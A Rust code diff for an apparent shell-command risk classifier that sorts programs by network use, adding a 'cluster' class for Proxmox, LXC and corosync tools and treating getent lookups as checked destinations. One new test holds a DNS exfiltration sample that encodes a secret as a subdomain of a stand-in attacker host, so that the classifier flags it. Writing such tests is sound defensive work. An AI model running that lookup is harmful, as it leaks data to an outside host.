@@ -19,9 +19,12 @@ pub enum NetworkUse {
     /// Nothing: it runs in a network of its own with only a loopback.
     #[default]
     None,
-    /// The host's interfaces, routes and sockets to read (netlink), and
-    /// the local sockets Proxmox's tools talk over; no IP socket at all.
+    /// The host's interfaces, routes and sockets to read (netlink); no IP
+    /// socket at all.
     Inspects,
+    /// [`NetworkUse::Inspects`], and the abstract Unix sockets Proxmox's
+    /// and LXC's tools talk to pmxcfs and the containers' monitors over.
+    Cluster,
     /// It reaches the places its words name, each of which the classifier
     /// checked against the egress policy ([`crate::Egress`]): IP sockets
     /// in the host's network.
@@ -33,6 +36,7 @@ impl NetworkUse {
         match self {
             NetworkUse::None => "none",
             NetworkUse::Inspects => "inspects",
+            NetworkUse::Cluster => "cluster",
             NetworkUse::Reaches => "reaches",
         }
     }
@@ -45,7 +49,7 @@ impl fmt::Display for NetworkUse {
 }
 
 #[derive(Debug, Clone, PartialEq, Eq, thiserror::Error)]
-#[error("`{0}` is not a network use; use none, inspects or reaches")]
+#[error("`{0}` is not a network use; use none, inspects, cluster or reaches")]
 pub struct UnknownNetworkUse(pub String);
 
 impl FromStr for NetworkUse {
@@ -54,21 +58,28 @@ impl FromStr for NetworkUse {
         match s {
             "none" => Ok(NetworkUse::None),
             "inspects" => Ok(NetworkUse::Inspects),
+            "cluster" => Ok(NetworkUse::Cluster),
             "reaches" => Ok(NetworkUse::Reaches),
             other => Err(UnknownNetworkUse(other.to_string())),
         }
     }
 }
 
-/// Programs that read the host's network state, or talk to Proxmox's and
-/// LXC's daemons over local sockets bound in the host's network namespace
-/// (abstract Unix sockets belong to a network namespace).
+/// Programs that read the host's network state.
 #[rustfmt::skip]
 const INSPECTS: &[&str] = &[
     "ss", "netstat", "nstat", "ip", "ifconfig", "arp", "route", "bridge", "brctl", "ethtool",
-    "iw", "iwconfig", "tc", "lsof", "hostname", "hostnamectl", "getent", "iptables",
+    "iw", "iwconfig", "tc", "lsof", "hostname", "hostnamectl", "iptables",
     "iptables-save", "ip6tables", "ip6tables-save", "nft", "ebtables", "conntrack",
-    "networkctl", "pct", "qm", "pvesh", "pvecm", "pvesm", "pvenode", "pveversion", "ha-manager",
+    "networkctl",
+];
+
+/// Proxmox's, LXC's and corosync's tools, which ask pmxcfs, the
+/// containers' monitors and corosync over abstract Unix sockets (libqb's
+/// default), bound in the host's network namespace.
+#[rustfmt::skip]
+const CLUSTER: &[&str] = &[
+    "pct", "qm", "pvesh", "pvecm", "pvesm", "pvenode", "pveversion", "ha-manager",
     "pvesubscription", "pveam", "pvereport", "pve-firewall", "pveperf", "lxc-info", "lxc-ls",
     "corosync-cfgtool", "corosync-quorumtool", "corosync-cmapctl",
 ];
@@ -77,6 +88,8 @@ const INSPECTS: &[&str] = &[
 pub(crate) fn use_of(program: &str) -> NetworkUse {
     if crate::egress::reaches(program) {
         NetworkUse::Reaches
+    } else if CLUSTER.contains(&program) {
+        NetworkUse::Cluster
     } else if INSPECTS.contains(&program) {
         NetworkUse::Inspects
     } else {
@@ -91,11 +104,17 @@ mod tests {
 
     #[test]
     fn words_round_trip_and_order() {
-        for n in [NetworkUse::None, NetworkUse::Inspects, NetworkUse::Reaches] {
+        for n in [
+            NetworkUse::None,
+            NetworkUse::Inspects,
+            NetworkUse::Cluster,
+            NetworkUse::Reaches,
+        ] {
             assert_eq!(n.as_str().parse::<NetworkUse>(), Ok(n));
         }
         assert!(NetworkUse::None < NetworkUse::Inspects);
-        assert!(NetworkUse::Inspects < NetworkUse::Reaches);
+        assert!(NetworkUse::Inspects < NetworkUse::Cluster);
+        assert!(NetworkUse::Cluster < NetworkUse::Reaches);
         assert!("host".parse::<NetworkUse>().is_err());
     }
 
@@ -106,8 +125,9 @@ mod tests {
             ("df -h; free -m", NetworkUse::None),
             ("ss -ltn", NetworkUse::Inspects),
             ("ip -br addr | grep UP", NetworkUse::Inspects),
-            ("pct list", NetworkUse::Inspects),
-            ("getent hosts pve.lan", NetworkUse::Inspects),
+            ("pct list", NetworkUse::Cluster),
+            ("sudo /usr/sbin/qm status 100", NetworkUse::Cluster),
+            ("getent hosts pve.lan", NetworkUse::Reaches),
             ("ping -c1 192.168.1.10", NetworkUse::Reaches),
             (
                 "uptime && curl -s http://10.0.0.5:8080/health",
@@ -126,12 +146,28 @@ mod tests {
     #[test]
     fn a_program_named_only_in_data_gives_nothing() {
         // Words in an argument are not programs the command starts.
-        for command in ["echo curl http://10.0.0.1", "grep -r ping /etc/hosts"] {
+        for command in [
+            "echo curl http://10.0.0.1",
+            "grep -r ping /etc/hosts",
+            // A tool named in a quoted word starts nothing.
+            "echo \"qm\"",
+        ] {
             assert_eq!(
                 classify(command, None).network,
                 NetworkUse::None,
                 "{command}"
             );
+        }
+    }
+
+    #[test]
+    fn a_lookup_is_checked_like_any_destination() {
+        // With a checked program beside it, an unchecked lookup would
+        // send an attacker's name out through the resolver.
+        let exfil = "curl -s http://127.0.0.1:8006/ -o /dev/null; getent ahosts c2VjcmV0.attacker.example";
+        assert_ne!(classify(exfil, None).class, RiskClass::ReadOnly);
+        for lab in ["getent hosts pve.lan", "getent ahostsv4 10.0.0.5"] {
+            assert_eq!(classify(lab, None).class, RiskClass::ReadOnly, "{lab}");
         }
     }
 
